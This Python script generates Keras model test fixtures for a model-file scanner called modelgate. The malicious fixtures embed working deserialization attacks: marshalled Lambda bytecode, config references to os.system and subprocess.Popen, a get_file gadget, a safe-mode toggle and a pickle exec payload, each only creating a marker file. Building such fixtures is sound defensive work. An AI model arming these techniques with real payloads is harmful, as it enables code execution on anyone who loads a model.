#!/usr/bin/python3
"""Generate Keras fixtures (HDF5 and .keras v3 archives) for modelgate.

Run from the repository root with Debian's interpreter (python3-h5py, -numpy, -torch):

    /usr/bin/python3 test/gen_keras_fixtures.py

Keras and TensorFlow are not packaged in Debian (apt-cache policy python3-keras
python3-tensorflow: no candidate) and PyPI is not reachable, so the files are written with
h5py and zipfile in exactly the layout Keras writes:

* Keras 2 / tf.keras and Keras 3 legacy HDF5 (save_model_to_hdf5): root attributes
  keras_version and backend as Python str (h5py: variable-length UTF-8 strings), model_config
  and training_config as json.dumps(...).encode('utf8') (h5py: fixed-length byte strings); a
  model_weights group with layer_names / backend / keras_version attributes, one group per
  layer with a weight_names attribute and one dataset per weight named "<layer>/<var>:0".
* Keras 2 save_weights HDF5: the model_weights layout at the root, no model_config.
* Keras 3 .keras (saving_lib.save_model): a zip with metadata.json ({"keras_version",
  "date_saved"}), config.json (serialize_keras_object output: module / class_name / config /
  registered_name / build_config / compile_config) and model.weights.h5 (H5IOStore:
  layers/<name>/vars/<index> datasets).

Malicious payloads only create a marker file. Lambda bytecode is marshal.dumps of a real
Python function's __code__ whose body opens os.environ['MODELGATE_MARKER'] for append.
Proof: Keras itself cannot run here, so a Lambda fixture is proven by reading it back from
the written file (h5py or zipfile + json) and running the exact steps of Keras's func_load
(base64 decode, marshal.loads, types.FunctionType, call) in a throw-away subprocess; the
TorchModuleWrapper fixture by running torch.load(weights_only=False) on the decoded module
bytes, as TorchModuleWrapper.from_config does. Fixtures whose effect needs Keras's own
import logic (module references, get_file, safe-mode toggle, TFOpLambda) are "proven": false.

Writes test/fixtures/{benign,malicious}/keras/ and test/fixtures/manifest-keras.json.
"""
import base64
import io
import json
import marshal
import os
import subprocess
import sys
import tempfile
import zipfile

import h5py
import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, 'fixtures')
BENIGN = os.path.join(FIX, 'benign', 'keras')
MAL = os.path.join(FIX, 'malicious', 'keras')
MANIFEST = []
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
KERAS2 = '2.11.0'
KERAS3 = '3.6.0'


def marker_payload(x):
    """The Lambda body: touches the marker, then behaves like an identity layer."""
    import os
    open(os.environ.get('MODELGATE_MARKER', '/tmp/modelgate-marker'), 'a').close()
    return x


def func_dump(fn):
    """keras.utils.python_utils.func_dump: (base64 marshal of __code__, defaults, closure)."""
    return [base64.b64encode(marshal.dumps(fn.__code__)).decode('ascii'), None, None]


# ---------------------------------------------------------------- config builders

def k2_dense(name, units, activation, input_shape=None):
    cfg = {'name': name, 'trainable': True, 'dtype': 'float32', 'units': units, 'activation': activation,
           'use_bias': True,
           'kernel_initializer': {'class_name': 'GlorotUniform', 'config': {'seed': None}},
           'bias_initializer': {'class_name': 'Zeros', 'config': {}},
           'kernel_regularizer': None, 'bias_regularizer': None, 'activity_regularizer': None,
           'kernel_constraint': None, 'bias_constraint': None}
    if input_shape:
        cfg['batch_input_shape'] = [None] + list(input_shape)
    return {'class_name': 'Dense', 'config': cfg}


def k2_sequential(layers, name='sequential'):
    return {'class_name': 'Sequential', 'config': {'name': name, 'layers': layers}}


def k2_input(shape, name='input_1'):
    return {'class_name': 'InputLayer', 'config': {'batch_input_shape': [None] + list(shape), 'dtype': 'float32',
                                                   'sparse': False, 'ragged': False, 'name': name}}


def k2_training_config():
    return {'loss': 'categorical_crossentropy',
            'metrics': [[{'class_name': 'MeanMetricWrapper',
                          'config': {'name': 'accuracy', 'dtype': 'float32', 'fn': 'categorical_accuracy'}}]],
            'weighted_metrics': None, 'loss_weights': None,
            'optimizer_config': {'class_name': 'Custom>Adam',
                                 'config': {'name': 'Adam', 'weight_decay': None, 'clipnorm': None,
                                            'global_clipnorm': None, 'clipvalue': None, 'use_ema': False,
                                            'ema_momentum': 0.99, 'ema_overwrite_frequency': None,
                                            'jit_compile': True, 'is_legacy_optimizer': False,
                                            'learning_rate': 0.0010000000474974513, 'beta_1': 0.9,
                                            'beta_2': 0.999, 'epsilon': 1e-07, 'amsgrad': False}}}


def k2_functional_cnn():
    """tf.keras Functional: Conv2D, BatchNormalization, Flatten, Dropout, Dense and the
    TFOpLambda that tf.keras inserts for `x * 2.0` (a benign math op)."""
    conv = {'class_name': 'Conv2D', 'config': {
        'name': 'conv2d', 'trainable': True, 'dtype': 'float32', 'filters': 4, 'kernel_size': [3, 3],
        'strides': [1, 1], 'padding': 'valid', 'data_format': 'channels_last', 'dilation_rate': [1, 1],
        'groups': 1, 'activation': 'relu', 'use_bias': True,
        'kernel_initializer': {'class_name': 'GlorotUniform', 'config': {'seed': None}},
        'bias_initializer': {'class_name': 'Zeros', 'config': {}}, 'kernel_regularizer': None,
        'bias_regularizer': None, 'activity_regularizer': None, 'kernel_constraint': None,
        'bias_constraint': None}, 'name': 'conv2d', 'inbound_nodes': [[['input_1', 0, 0, {}]]]}
    bn = {'class_name': 'BatchNormalization', 'config': {
        'name': 'batch_normalization', 'trainable': True, 'dtype': 'float32', 'axis': [3], 'momentum': 0.99,
        'epsilon': 0.001, 'center': True, 'scale': True,
        'beta_initializer': {'class_name': 'Zeros', 'config': {}},
        'gamma_initializer': {'class_name': 'Ones', 'config': {}},
        'moving_mean_initializer': {'class_name': 'Zeros', 'config': {}},
        'moving_variance_initializer': {'class_name': 'Ones', 'config': {}},
        'beta_regularizer': None, 'gamma_regularizer': None, 'beta_constraint': None, 'gamma_constraint': None},
        'name': 'batch_normalization', 'inbound_nodes': [[['conv2d', 0, 0, {}]]]}
    flat = {'class_name': 'Flatten', 'config': {'name': 'flatten', 'trainable': True, 'dtype': 'float32',
                                                'data_format': 'channels_last'},
            'name': 'flatten', 'inbound_nodes': [[['batch_normalization', 0, 0, {}]]]}
    drop = {'class_name': 'Dropout', 'config': {'name': 'dropout', 'trainable': True, 'dtype': 'float32',
                                                'rate': 0.5, 'noise_shape': None, 'seed': None},
            'name': 'dropout', 'inbound_nodes': [[['flatten', 0, 0, {}]]]}
    dense = k2_dense('dense', 3, 'softmax')
    dense.update({'name': 'dense', 'inbound_nodes': [[['dropout', 0, 0, {}]]]})
    mul = {'class_name': 'TFOpLambda', 'config': {'name': 'tf.math.multiply', 'trainable': True,
                                                  'dtype': 'float32', 'function': 'math.multiply'},
           'name': 'tf.math.multiply', 'inbound_nodes': [['dense', 0, 0, {'y': 2.0, 'name': None}]]}
    inp = k2_input([6, 6, 1])
    inp.update({'name': 'input_1', 'inbound_nodes': []})
    return {'class_name': 'Functional', 'config': {
        'name': 'model', 'layers': [inp, conv, bn, flat, drop, dense, mul],
        'input_layers': [['input_1', 0, 0]], 'output_layers': [['tf.math.multiply', 0, 0]]}}


def k3_obj(module, class_name, config, registered_name=None, **extra):
    d = {'module': module, 'class_name': class_name, 'config': config, 'registered_name': registered_name}
    d.update(extra)
    return d


def k3_dtype():
    return k3_obj('keras', 'DTypePolicy', {'name': 'float32'})


def k3_dense(name, units, activation, in_dim, inbound=None):
    cfg = {'name': name, 'trainable': True, 'dtype': k3_dtype(), 'units': units, 'activation': activation,
           'use_bias': True,
           'kernel_initializer': k3_obj('keras.initializers', 'GlorotUniform', {'seed': None}),
           'bias_initializer': k3_obj('keras.initializers', 'Zeros', {}),
           'kernel_regularizer': None, 'bias_regularizer': None, 'kernel_constraint': None, 'bias_constraint': None}
    extra = {'build_config': {'input_shape': [None, in_dim]}}
    if inbound is not None:
        extra['name'] = name
        extra['inbound_nodes'] = inbound
    return k3_obj('keras.layers', 'Dense', cfg, **extra)


def k3_compile_config():
    return {'optimizer': k3_obj('keras.optimizers', 'Adam', {
        'name': 'adam', 'learning_rate': 0.0010000000474974513, 'weight_decay': None, 'clipnorm': None,
        'global_clipnorm': None, 'clipvalue': None, 'use_ema': False, 'ema_momentum': 0.99,
        'ema_overwrite_frequency': None, 'loss_scale_factor': None, 'gradient_accumulation_steps': None,
        'beta_1': 0.9, 'beta_2': 0.999, 'epsilon': 1e-07, 'amsgrad': False}),
        'loss': 'sparse_categorical_crossentropy', 'loss_weights': None, 'metrics': ['accuracy'],
        'weighted_metrics': None, 'run_eagerly': False, 'steps_per_execution': 1, 'jit_compile': False}


def k3_sequential(extra_layers=(), compile_config=True):
    layers = [k3_obj('keras.layers', 'InputLayer', {'batch_shape': [None, 4], 'dtype': 'float32', 'sparse': False,
                                                    'name': 'input_layer'}),
              k3_dense('dense', 8, 'relu', 4),
              k3_obj('keras.layers', 'Dropout', {'name': 'dropout', 'trainable': True, 'dtype': k3_dtype(),
                                                 'rate': 0.1, 'seed': None, 'noise_shape': None}),
              k3_dense('dense_1', 3, 'softmax', 8)]
    layers[2:2] = list(extra_layers)
    d = k3_obj('keras', 'Sequential', {'name': 'sequential', 'trainable': True, 'dtype': k3_dtype(),
                                       'layers': layers},
               build_config={'input_shape': [None, 4]})
    if compile_config:
        d['compile_config'] = k3_compile_config()
    return d


def k3_tensor(shape, history):
    return {'class_name': '__keras_tensor__', 'config': {'shape': shape, 'dtype': 'float32',
                                                          'keras_history': history}}


def k3_functional(middle):
    """Keras 3 Functional: input -> middle layers (each called on the previous one) -> Dense."""
    inp = k3_obj('keras.layers', 'InputLayer', {'batch_shape': [None, 4], 'dtype': 'float32', 'sparse': False,
                                                'name': 'input_layer'}, name='input_layer', inbound_nodes=[])
    layers, prev = [inp], 'input_layer'
    for layer in middle:
        layer.setdefault('inbound_nodes', [{'args': [k3_tensor([None, 4], [prev, 0, 0])], 'kwargs': {}}])
        layers.append(layer)
        prev = layer['name']
    layers.append(k3_dense('dense', 3, 'softmax', 4,
                           inbound=[{'args': [k3_tensor([None, 4], [prev, 0, 0])], 'kwargs': {}}]))
    return k3_obj('keras', 'Functional', {'name': 'functional', 'trainable': True, 'layers': layers,
                                          'input_layers': [['input_layer', 0, 0]],
                                          'output_layers': [['dense', 0, 0]]},
                  build_config={'input_shape': [None, 4]}, compile_config=k3_compile_config())


# ---------------------------------------------------------------- writers

def new_h5(path):
    """h5py.File(path, 'w') as Keras opens it, with timestamps off so bytes are reproducible."""
    fcpl = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    fcpl.set_obj_track_times(False)
    return h5py.File(h5py.h5f.create(path.encode(), h5py.h5f.ACC_TRUNC, fcpl=fcpl))


def group(parent, name):
    gcpl = h5py.h5p.create(h5py.h5p.GROUP_CREATE)
    gcpl.set_obj_track_times(False)
    h5py.h5g.create(parent.id, name.encode(), gcpl=gcpl)
    return parent[name]


def dataset(g, name, arr):
    dcpl = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    dcpl.set_obj_track_times(False)
    space = h5py.h5s.create_simple(arr.shape)
    tid = h5py.h5t.py_create(arr.dtype)
    ds = h5py.h5d.create(g.id, name.encode(), tid, space, dcpl=dcpl)
    ds.write(h5py.h5s.ALL, h5py.h5s.ALL, np.ascontiguousarray(arr))


def save_weights_group(g, weights, version):
    """keras save_weights_to_hdf5_group: layer_names, backend, keras_version, per-layer groups."""
    g.attrs['layer_names'] = np.array([n.encode('utf8') for n in weights])
    g.attrs['backend'] = b'tensorflow'
    g.attrs['keras_version'] = version.encode('utf8')
    for lname, ws in weights.items():
        lg = group(g, lname)
        names = ['%s/%s:0' % (lname, w) for w in ws]
        lg.attrs['weight_names'] = np.array([n.encode('utf8') for n in names])
        for n, (w, arr) in zip(names, ws.items()):
            sub = lg.get(lname) or group(lg, lname)
            dataset(sub, w + ':0', arr)


def h5_model(path, model_config, training_config=None, weights=None, version=KERAS2):
    """keras save_model_to_hdf5: root attributes then model_weights."""
    with new_h5(path) as f:
        f.attrs['keras_version'] = version
        f.attrs['backend'] = 'tensorflow'
        f.attrs['model_config'] = json.dumps(model_config).encode('utf8')
        if training_config is not None:
            f.attrs['training_config'] = json.dumps(training_config).encode('utf8')
        save_weights_group(group(f, 'model_weights'), weights or {}, version)


def h5_weights_only(path, weights):
    with new_h5(path) as f:
        save_weights_group(f, weights, KERAS2)


def rng_weights(spec):
    rs = np.random.RandomState(0)
    return {layer: {w: rs.standard_normal(shape).astype('float32') for w, shape in ws.items()}
            for layer, ws in spec.items()}


def weights_h5_bytes(layers):
    """Keras 3 H5IOStore layout for model.weights.h5: layers/<name>/vars/<i>."""
    with tempfile.TemporaryDirectory() as td:
        p = os.path.join(td, 'model.weights.h5')
        with new_h5(p) as f:
            lg = group(f, 'layers')
            for name, arrs in layers.items():
                vg = group(group(lg, name), 'vars')
                for i, arr in enumerate(arrs):
                    dataset(vg, str(i), arr)
            group(f, 'optimizer')
            group(f['optimizer'], 'vars')
        with open(p, 'rb') as fh:
            return fh.read()


def keras_zip(path, config, weights=None):
    """keras saving_lib.save_model: metadata.json, config.json, model.weights.h5 (ZIP_STORED)."""
    rs = np.random.RandomState(1)
    if weights is None:
        weights = {'dense': [rs.standard_normal((4, 8)).astype('float32'), np.zeros(8, 'float32')],
                   'dense_1': [rs.standard_normal((8, 3)).astype('float32'), np.zeros(3, 'float32')]}
    members = [('metadata.json', json.dumps({'keras_version': KERAS3, 'date_saved': '2024-01-01@00:00:00'})),
               ('config.json', json.dumps(config)),
               ('model.weights.h5', weights_h5_bytes(weights))]
    with zipfile.ZipFile(path, 'w', compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(zipfile.ZipInfo(name, ZIP_TIME), data)


# ---------------------------------------------------------------- proofs

FUNC_LOAD = '''
import base64, marshal, types, os
def func_load(code, defaults=None, closure=None, globs=None):
    # keras.src.utils.python_utils.func_load, step for step
    if isinstance(code, (tuple, list)):
        code, defaults, closure = code
        if isinstance(defaults, list):
            defaults = tuple(defaults)
    raw_code = base64.b64decode(code.encode("ascii"))
    code = marshal.loads(raw_code)
    if globs is None:
        globs = globals()
    return types.FunctionType(code, globs, name=code.co_name, argdefs=defaults, closure=closure)
def lambdas(o):
    if isinstance(o, dict):
        if o.get("class_name") == "Lambda" and isinstance(o.get("config", {}).get("function"), list):
            yield o["config"]["function"]
        if o.get("class_name") == "__lambda__":
            yield o["config"]["value"]
        for v in o.values():
            yield from lambdas(v)
    elif isinstance(o, list):
        for v in o:
            yield from lambdas(v)
'''

PROOFS = {
    'h5 Lambda': FUNC_LOAD + '''
import h5py, json
cfg = h5py.File(FILE, "r").attrs["model_config"]
cfg = json.loads(cfg.decode("utf8") if isinstance(cfg, bytes) else cfg)
for f in lambdas(cfg):
    func_load(f)(1.0)
''',
    'keras zip Lambda': FUNC_LOAD + '''
import zipfile, json
cfg = json.loads(zipfile.ZipFile(FILE).read("config.json"))
for f in lambdas(cfg):
    func_load(f)(1.0)
''',
    'keras zip TorchModuleWrapper': '''
import zipfile, json, base64, io, torch
def find(o):
    if isinstance(o, dict):
        if o.get("class_name") == "TorchModuleWrapper":
            yield o["config"]["module"]
        for v in o.values():
            yield from find(v)
    elif isinstance(o, list):
        for v in o:
            yield from find(v)
cfg = json.loads(zipfile.ZipFile(FILE).read("config.json"))
for m in find(cfg):
    # TorchModuleWrapper.from_config with safe_mode=False
    torch.load(io.BytesIO(base64.b64decode(m.encode("ascii"))), weights_only=False)
''',
}


def prove(path, proof):
    with tempfile.TemporaryDirectory(prefix='mg-keras-proof-') as td:
        marker = os.path.join(td, 'marker')
        env = dict(os.environ, MODELGATE_MARKER=marker)
        r = subprocess.run([sys.executable, '-c', 'FILE = %r\n' % os.path.abspath(path) + PROOFS[proof]],
                           cwd=td, env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
        if r.returncode != 0:
            print('   proof %s failed: %s' % (proof, r.stderr.strip().splitlines()[-1:]))
        return os.path.exists(marker)


def entry(rel, label, fmt, technique, catalogue, loader, proven, notes=None):
    e = {'file': rel, 'label': label, 'format': fmt, 'technique': technique, 'catalogue': catalogue,
         'loader': loader, 'proven': proven}
    if notes:
        e['notes'] = notes
    MANIFEST.append(e)


def benign(name, fmt, technique, writer):
    path = os.path.join(BENIGN, name)
    writer(path)
    entry('benign/keras/' + name, 'benign', fmt, technique, '', 'h5py / zipfile (Keras layout)', False,
          'written by h5py/zipfile in the layout Keras writes; Keras itself is not installable here')
    print('  benign   %-40s %6d bytes' % (name, os.path.getsize(path)))


def malicious(name, fmt, technique, catalogue, writer, proof=None, unproven_reason=None):
    path = os.path.join(MAL, name)
    writer(path)
    proven = False
    loader = 'keras.models.load_model (not installable here)'
    notes = 'UNPROVEN: ' + (unproven_reason or 'needs Keras, which is not installable here')
    if proof:
        proven = prove(path, proof)
        if proven:
            loader = {'h5 Lambda': 'h5py + keras func_load steps (marshal.loads, types.FunctionType, call)',
                      'keras zip Lambda': 'zipfile + keras func_load steps (marshal.loads, types.FunctionType, call)',
                      'keras zip TorchModuleWrapper':
                          'zipfile + TorchModuleWrapper.from_config step: torch.load(weights_only=False)'}[proof]
            notes = ('payload proven live by running the steps Keras runs on it; Keras itself is not '
                     'installable here, so the surrounding load_model call is reproduced, not executed')
        else:
            raise SystemExit('proof failed for ' + name)
    entry('malicious/keras/' + name, 'malicious', fmt, technique, catalogue, loader, proven, notes)
    print('  %-8s %-40s %6d bytes' % ('proven' if proven else 'UNPROVEN', name, os.path.getsize(path)))


class TorchPayload:
    """Pickled into the TorchModuleWrapper module bytes: runs the marker code on torch.load."""

    def __reduce__(self):
        return (exec, ("open(__import__('os').environ.get('MODELGATE_MARKER','/tmp/modelgate-marker'),'a').close()",))


def torch_save_b64(obj):
    import torch
    bio = io.BytesIO()
    torch.save(obj, bio)
    return base64.b64encode(bio.getvalue()).decode('ascii')


def hdf5_testdata():
    """Small files for the HDF5 reader's unit tests: each superblock/object-header layout."""
    d = os.path.join(HERE, '..', 'core', 'formats', 'hdf5', 'testdata')
    os.makedirs(d, exist_ok=True)
    cfg = json.dumps({'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': []}})

    def attrs(f):
        f.attrs['keras_version'] = KERAS2  # variable-length UTF-8
        f.attrs['model_config'] = cfg.encode('utf8')  # fixed-length bytes
        f.attrs['layer_names'] = np.array([b'dense', b'dense_1'])  # fixed-length array
        f.attrs['names_vlen'] = np.array(['a', 'bc', ''], dtype=h5py.string_dtype())  # vlen array
        f.attrs['epoch'] = np.int64(3)  # non-string
    specs = [('v0_earliest.h5', {}), ('v3_latest.h5', {'libver': 'latest'}),
             ('v0_userblock512.h5', {'userblock_size': 512})]
    for name, kw in specs:
        with h5py.File(os.path.join(d, name), 'w', track_order=False, **kw) as f:
            f.attrs  # noqa: B018
            attrs(f)
    with h5py.File(os.path.join(d, 'v3_dense_attrs.h5'), 'w', libver='latest') as f:
        for i in range(12):
            f.attrs['a%02d' % i] = 'x' * i
    # Dense storage deep enough for a v2 B-tree with internal nodes and a
    # fractal heap whose root is an indirect block.
    with h5py.File(os.path.join(d, 'v3_dense_many.h5'), 'w', libver='latest') as f:
        for i in range(400):
            f.attrs['attr%03d' % i] = 'value %d' % i
        f.attrs['model_config'] = cfg.encode('utf8')
    with h5py.File(os.path.join(d, 'v3_dense_big.h5'), 'w', libver='latest') as f:
        for i in range(9):
            f.attrs['a%d' % i] = i
        f.attrs['model_config'] = (cfg + ' ' * 20000).encode('utf8')
    # Many attributes with the earliest format force object header continuation blocks.
    with h5py.File(os.path.join(d, 'v0_continuation.h5'), 'w') as f:
        for i in range(40):
            f.attrs['attr%02d' % i] = ('value %d ' % i) * 20
        f.attrs['model_config'] = cfg.encode('utf8')
    with h5py.File(os.path.join(d, 'v3_continuation.h5'), 'w', libver='latest') as f:
        f.attrs['model_config'] = cfg.encode('utf8')
        for i in range(6):
            f.attrs['attr%02d' % i] = ('value %d ' % i) * 200


def main():
    hdf5_testdata()
    for d in (BENIGN, MAL):
        os.makedirs(d, exist_ok=True)
        for n in os.listdir(d):
            os.remove(os.path.join(d, n))
    print('benign:')
    seq_w = rng_weights({'dense': {'kernel': (4, 8), 'bias': (8,)}, 'dense_1': {'kernel': (8, 3), 'bias': (3,)}})
    seq = k2_sequential([k2_dense('dense', 8, 'relu', [4]),
                         {'class_name': 'Dropout', 'config': {'name': 'dropout', 'trainable': True,
                                                              'dtype': 'float32', 'rate': 0.1,
                                                              'noise_shape': None, 'seed': None}},
                         k2_dense('dense_1', 3, 'softmax')])
    benign('h5_sequential_dense_dropout.h5', 'keras-h5', 'tf.keras 2.11 Sequential (Dense, Dropout) with '
           'training_config (Adam, categorical_crossentropy, accuracy)',
           lambda p: h5_model(p, seq, k2_training_config(), seq_w))
    cnn_w = rng_weights({'conv2d': {'kernel': (3, 3, 1, 4), 'bias': (4,)},
                         'batch_normalization': {'gamma': (4,), 'beta': (4,), 'moving_mean': (4,),
                                                 'moving_variance': (4,)},
                         'dense': {'kernel': (64, 3), 'bias': (3,)}})
    benign('h5_functional_cnn_tfoplambda.h5', 'keras-h5', 'tf.keras Functional (Conv2D, BatchNormalization, '
           'Flatten, Dropout, Dense) with a TFOpLambda tf.math.multiply as tf.keras writes for x * 2.0',
           lambda p: h5_model(p, k2_functional_cnn(), k2_training_config(), cnn_w))
    benign('h5_no_training_config.h5', 'keras-h5', 'model saved with include_optimizer=False '
           '(model_config only)', lambda p: h5_model(p, seq, None, seq_w))
    benign('h5_weights_only.h5', 'hdf5', 'model.save_weights HDF5 (layer_names at the root, no model_config)',
           lambda p: h5_weights_only(p, seq_w))
    benign('keras3_legacy_h5_modules.h5', 'keras-h5', 'Keras 3 legacy .h5 whose config carries module / '
           'registered_name keys (keras.layers, keras.initializers, keras DTypePolicy)',
           lambda p: h5_model(p, k3_sequential(compile_config=False), None, seq_w, version=KERAS3))
    benign('keras3_sequential.keras', 'keras', 'Keras 3 .keras Sequential (Dense, Dropout) with compile_config',
           lambda p: keras_zip(p, k3_sequential()))
    custom = k3_obj('keras_hub.src.layers.modeling.reversible_embedding', 'ReversibleEmbedding',
                    {'name': 'rev', 'trainable': True, 'dtype': k3_dtype(), 'input_dim': 4, 'output_dim': 4},
                    registered_name='keras_hub>ReversibleEmbedding', name='rev')
    custom2 = k3_obj('keras.layers', 'Normalization', {'name': 'norm', 'trainable': True, 'dtype': k3_dtype(),
                                                       'axis': [-1], 'invert': False, 'mean': None,
                                                       'variance': None}, name='norm')
    benign('keras3_functional_registered.keras', 'keras', 'Keras 3 .keras Functional with __keras_tensor__ '
           'inbound nodes, a keras_hub registered layer (registered_name "keras_hub>...") and Normalization',
           lambda p: keras_zip(p, k3_functional([custom2, custom])))

    print('malicious:')
    lam2 = {'class_name': 'Lambda', 'config': {'name': 'lambda', 'trainable': True, 'dtype': 'float32',
                                               'function': func_dump(marker_payload), 'function_type': 'lambda',
                                               'module': '__main__', 'output_shape': None,
                                               'output_shape_type': 'raw', 'output_shape_module': None,
                                               'arguments': {}}}
    malicious('h5_lambda_marker.h5', 'keras-h5', 'Keras 2 HDF5 Lambda layer: function = func_dump of a real '
              'function that imports os and opens the marker (CPython %d.%d bytecode)' % sys.version_info[:2],
              '3.3.28', lambda p: h5_model(p, k2_sequential([k2_input([4]), lam2, k2_dense('dense', 2, None)]),
                                           k2_training_config(), {'dense': {'kernel': np.zeros((4, 2), 'f4')}}),
              proof='h5 Lambda')
    fn_os = {'class_name': 'Lambda', 'config': {'name': 'lambda', 'trainable': True, 'dtype': 'float32',
                                                'function': 'system', 'function_type': 'function',
                                                'module': 'os', 'output_shape': None,
                                                'output_shape_type': 'raw', 'output_shape_module': None,
                                                'arguments': {}}}
    malicious('h5_lambda_function_os_system.h5', 'keras-h5', 'Keras 2 Lambda with function_type "function": '
              'the name "system" is looked up in sys.modules["os"] (config module "os")', '3.3.28',
              lambda p: h5_model(p, k2_sequential([k2_input([4]), fn_os]), None, {}))
    tfop = {'class_name': 'TFOpLambda', 'config': {'name': 'tf.io.write_file', 'trainable': True,
                                                   'dtype': 'float32', 'function': 'io.write_file'},
            'name': 'tf.io.write_file', 'inbound_nodes': [['input_1', 0, 0, {'filename': 'modelgate-marker'}]]}
    inp = k2_input([4])
    inp.update({'name': 'input_1', 'inbound_nodes': []})
    malicious('h5_tfoplambda_write_file.h5', 'keras-h5', 'TFOpLambda calling tf.io.write_file with a constant '
              'filename from the config', '3.3.29',
              lambda p: h5_model(p, {'class_name': 'Functional', 'config': {
                  'name': 'model', 'layers': [inp, tfop], 'input_layers': [['input_1', 0, 0]],
                  'output_layers': [['tf.io.write_file', 0, 0]]}}, None, {}))

    lam3 = k3_obj('keras.layers', 'Lambda', {
        'name': 'lambda', 'trainable': True, 'dtype': k3_dtype(),
        'function': {'class_name': '__lambda__', 'config': {'value': func_dump(marker_payload)}},
        'arguments': {}}, build_config={'input_shape': [None, 4]})
    malicious('keras3_lambda_marker.keras', 'keras', 'Keras 3 .keras config.json Lambda: function is '
              '{"class_name": "__lambda__", "config": {"value": func_dump}} of a marker-touching function',
              '3.3.28', lambda p: keras_zip(p, k3_sequential([lam3])), proof='keras zip Lambda')
    os_ref = k3_obj('keras.layers', 'Dense', {'name': 'dense_x', 'trainable': True, 'dtype': k3_dtype(),
                                              'units': 4, 'use_bias': True,
                                              'activation': k3_obj('os', 'function', 'system',
                                                                   registered_name='system')},
                    build_config={'input_shape': [None, 4]})
    malicious('keras3_module_os_system.keras', 'keras', 'config.json object {"module": "os", "class_name": '
              '"function", "config": "system"}: Keras imports os and returns os.system (CVE-2025-1550 class)',
              '3.3.28', lambda p: keras_zip(p, k3_sequential([os_ref])))
    sub_ref = k3_obj('subprocess', 'Popen', {'args': ['touch', 'modelgate-marker']}, name='popen',
                     inbound_nodes=[])
    malicious('keras3_module_subprocess_popen.keras', 'keras', 'Functional layer entry with module '
              '"subprocess", class_name "Popen" (arbitrary class import via config, CVE-2025-1550 class)',
              '3.3.28', lambda p: keras_zip(p, k3_functional([sub_ref])))
    gf = k3_obj('keras.utils', 'get_file', {}, name='get_file', inbound_nodes=[
        {'args': [], 'kwargs': {'fname': 'modelgate-marker', 'origin': 'http://127.0.0.1:9/none',
                                'cache_dir': '.', 'cache_subdir': '.'}}])
    malicious('keras3_get_file_gadget.keras', 'keras', 'Functional layer entry resolving to '
              'keras.utils.get_file with origin/cache_dir from the config (CVE-2025-8747 gadget)', '3.3.28',
              lambda p: keras_zip(p, k3_functional([gf])))
    toggle = k3_obj('keras.config', 'function', 'enable_unsafe_deserialization',
                    registered_name='enable_unsafe_deserialization')
    act = k3_dense('dense_t', 4, toggle, 4)
    malicious('keras3_safe_mode_toggle.keras', 'keras', 'config references keras.config.'
              'enable_unsafe_deserialization ahead of a Lambda layer (CVE-2025-9906 pattern)', '3.3.28',
              lambda p: keras_zip(p, k3_sequential([act, lam3])), proof='keras zip Lambda')
    twrap = k3_obj('keras.layers', 'TorchModuleWrapper', {'name': 'torch_module_wrapper', 'trainable': True,
                                                          'dtype': k3_dtype(), 'module': torch_save_b64(
                                                              TorchPayload()), 'output_shape': None},
                   build_config={'input_shape': [None, 4]})
    malicious('keras3_torch_module_wrapper.keras', 'keras', 'TorchModuleWrapper whose base64 module is a '
              'torch.save pickle with a __reduce__ exec payload (CVE-2025-49655)', '3.3.28',
              lambda p: keras_zip(p, k3_sequential([twrap])), proof='keras zip TorchModuleWrapper')
    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(FIX, 'manifest-keras.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=1)
        f.write('\n')
    print('%d fixtures' % len(MANIFEST))


if __name__ == '__main__':
    main()
